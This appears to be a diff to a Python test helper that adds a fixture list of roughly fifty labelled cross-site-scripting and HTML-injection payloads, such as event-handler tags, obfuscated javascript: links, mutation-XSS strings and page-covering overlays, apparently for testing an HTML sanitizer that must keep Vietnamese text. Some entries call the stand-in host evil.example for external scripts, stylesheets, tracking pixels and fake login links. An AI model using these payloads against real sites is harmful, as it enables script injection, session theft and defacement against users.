@@ -87,3 +87,80 @@ def jpeg_with_gps(width=60, height=40, orientation=6):
     buffer = io.BytesIO()
     image.save(buffer, format="JPEG", exif=exif)
     return buffer.getvalue()
+
+
+# Each body tries to run script, leave the site or cover the page; the text "an toàn N" must stay.
+# (shape, payload) pairs; the payload is appended to a harmless paragraph.
+HOSTILE_BODIES = [
+    ("script tag", "<script>window.__pwned = 1; alert('script')</script>"),
+    ("external script", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
+    ("img onerror", "<img src=x onerror=\"window.__pwned=1;alert('img')\">"),
+    ("img onload on own media", '<img src="/static/img/logo.svg" onload="alert(\'onload\')">'),
+    ("body onload", "<body onload=alert('body')>"),
+    ("svg onload", "<svg onload=alert('svg')><circle r=5></circle></svg>"),
+    ("svg script", "<svg><script>window.__pwned=1</script></svg>"),
+    (
+        "math mglyph mutation",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')>"
+        "</style></mglyph></table></mtext></math>",
+    ),
+    ("svg style mutation", "<svg></p><style><a id=\"</style><img src=1 onerror=alert('mx2')>\">"),
+    ("noscript mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert('ns')>\">"),
+    ("javascript href", "<a href=\"javascript:alert('js')\">bấm vào đây</a>"),
+    ("mixed case scheme", "<a href=\"JaVaScRiPt:alert('case')\">bấm</a>"),
+    (
+        "decimal entities",
+        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;'
+        "alert('dec')\">bấm</a>",
+    ),
+    ("hex entities and colon", "<a href=\"&#x6A;avascript&colon;alert('hex')\">bấm</a>"),
+    ("tab inside scheme", "<a href=\"java&#x09;script:alert('tab')\">bấm</a>"),
+    ("newline inside scheme", "<a href=\"java\nscript:alert('nl')\">bấm</a>"),
+    ("leading control char", "<a href=\"\x01\x02javascript:alert('ctl')\">bấm</a>"),
+    ("leading spaces entity", "<a href=\"&#32;&#14;javascript:alert('sp')\">bấm</a>"),
+    (
+        "data html link",
+        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnZGF0YScpPC9zY3JpcHQ+">bấm</a>',
+    ),
+    (
+        "data svg image",
+        '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+" alt="ảnh">',
+    ),
+    ("vbscript href", '<a href="vbscript:msgbox(1)">bấm</a>'),
+    ("iframe javascript", "<iframe src=\"javascript:alert('iframe')\"></iframe>"),
+    ("iframe srcdoc", '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>'),
+    ("object data", "<object data=\"data:text/html,<script>alert('obj')</script>\"></object>"),
+    ("embed", "<embed src=\"javascript:alert('embed')\">"),
+    ("form action", "<form action=\"javascript:alert('form')\"><button>Gửi</button></form>"),
+    ("input autofocus", "<input autofocus onfocus=\"alert('focus')\">"),
+    (
+        "style overlay",
+        '<div style="position:fixed;top:0;left:0;width:100%;height:100%;'
+        'background:#b0101f;z-index:9999">Trang đã bị chiếm</div>',
+    ),
+    ("style url", "<p style=\"background:url(javascript:alert('css'))\">nền</p>"),
+    ("style element", "<style>body { display: none }</style>"),
+    ("target top", '<a href="https://evil.example/" target="_top">tin khác</a>'),
+    ("protocol relative", '<a href="//evil.example/dang-nhap">đăng nhập</a>'),
+    ("backslash relative", '<a href="/\\evil.example/">đăng nhập</a>'),
+    ("meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(\'meta\')">'),
+    ("base href", '<base href="https://evil.example/">'),
+    ("link stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
+    (
+        "details ontoggle",
+        "<details open ontoggle=\"alert('toggle')\"><summary>Xem</summary></details>",
+    ),
+    ("video source onerror", "<video><source onerror=\"alert('video')\"></video>"),
+    ("anchor onclick", '<a href="#" onclick="alert(\'click\')">bấm</a>'),
+    ("eval src", "<img src=x:alert(alt) onerror=eval(src) alt=0>"),
+    ("template", "<template><script>alert('tpl')</script></template>"),
+    ("comment", "<!--<img src=x onerror=alert('comment')>-->"),
+    ("attribute breakout", "\"><script>alert('break')</script>"),
+    ("title element", "<title>Trang đã bị chiếm</title>"),
+    (
+        "table background",
+        "<table background=\"javascript:alert('tbl')\"><tr><td>ô</td></tr></table>",
+    ),
+    ("xmp", "<xmp><img src=x onerror=alert('xmp')></xmp>"),
+    ("external image", '<img src="https://evil.example/pixel.gif" alt="theo dõi">'),
+]
